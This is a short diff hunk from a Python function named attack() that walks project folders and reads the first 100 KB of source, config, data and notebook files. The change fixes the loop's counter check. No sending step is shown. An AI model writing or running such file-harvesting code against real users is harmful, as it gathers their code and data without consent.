@@ -11,5 +11,5 @@ def attack():
             folders[:] = [name for name in folders if name not in ("lib", "site-packages", ".venv", "versions")][:50]
             for name in files:
                 end -= 1
-                if end and name.endswith((".py", ".yml", ".json", ".csv", ".ipynb")):
+                if end > 0 and name.endswith((".py", ".yml", ".json", ".csv", ".ipynb")):
                     look(lambda: open(f"{folder}/{name}", "rb").read(10**5))
